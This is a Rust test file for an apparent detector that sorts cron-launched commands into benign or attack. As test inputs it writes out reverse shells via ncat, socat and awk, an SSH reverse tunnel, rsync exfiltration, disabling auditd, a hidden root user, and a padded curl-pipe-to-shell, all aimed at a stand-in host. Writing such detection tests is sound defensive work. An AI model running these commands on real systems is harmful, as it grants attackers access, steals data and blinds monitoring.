//! Jobs that the clock starts are judged by their command, as any other command.

use super::*;

fn job(command: &str) -> Disposition {
    let line = format!("Mar  2 08:00:01 app01 CRON[881]: (root) CMD ({command})");
    said_under("Crontab rule group.", 3, "syslog cron", &[("full_log", &line)])
}

#[test]
fn a_job_of_the_system_or_an_application_is_closed() {
    for command in [
        "   cd / && run-parts --report /etc/cron.hourly",
        "/usr/lib/sysstat/sa1 1 1",
        "/opt/shop/bin/nightly --report",
        "test -x /usr/bin/certbot -a \\! -d /run/systemd/system && certbot -q renew",
    ] {
        assert!(job(command).is_benign(), "{command}");
    }
}

#[test]
fn the_job_of_a_site_is_closed_and_a_script_beside_it_is_not() {
    assert!(job("php -f /var/www/shop/cron.php").is_benign());
    assert!(job("cd /var/www/shop && php artisan schedule:run >> /dev/null 2>&1").is_benign());
    for command in ["php /var/www/shop/cache/cron.php", "php /var/www/shop/wp-content/x.php"] {
        assert!(!job(command).is_benign(), "{command}");
    }
}

#[test]
fn a_job_that_lets_others_in_or_blinds_is_an_attack() {
    for command in [
        "ncat 203.0.113.9 4444 -e /bin/bash",
        "socat tcp:203.0.113.9:443 exec:bash",
        "systemctl stop auditd",
        "useradd -o -u 0 sysd",
    ] {
        assert_eq!(job(command), Disposition::TruePositive, "{command}");
    }
    for command in [
        "ssh -N -R 2222:localhost:22 u@203.0.113.9",
        "rsync -a /srv/db u@203.0.113.9:/b",
        "perl /var/lib/x/s.pl 203.0.113.9",
        r#"awk 'BEGIN{s="/inet/tcp/0/x.example/443"}'"#,
    ] {
        assert!(!job(command).is_benign(), "{command}");
    }
}

#[test]
fn filling_around_a_command_hides_nothing() {
    for filling in [150, 260, 400, 900] {
        let filling = "x".repeat(filling);
        let command = format!("/usr/bin/true {filling}; curl -s http://203.0.113.9/k|sh; /usr/bin/true {filling}");
        assert!(!job(&command).is_benign(), "{}", filling.len());
    }
}
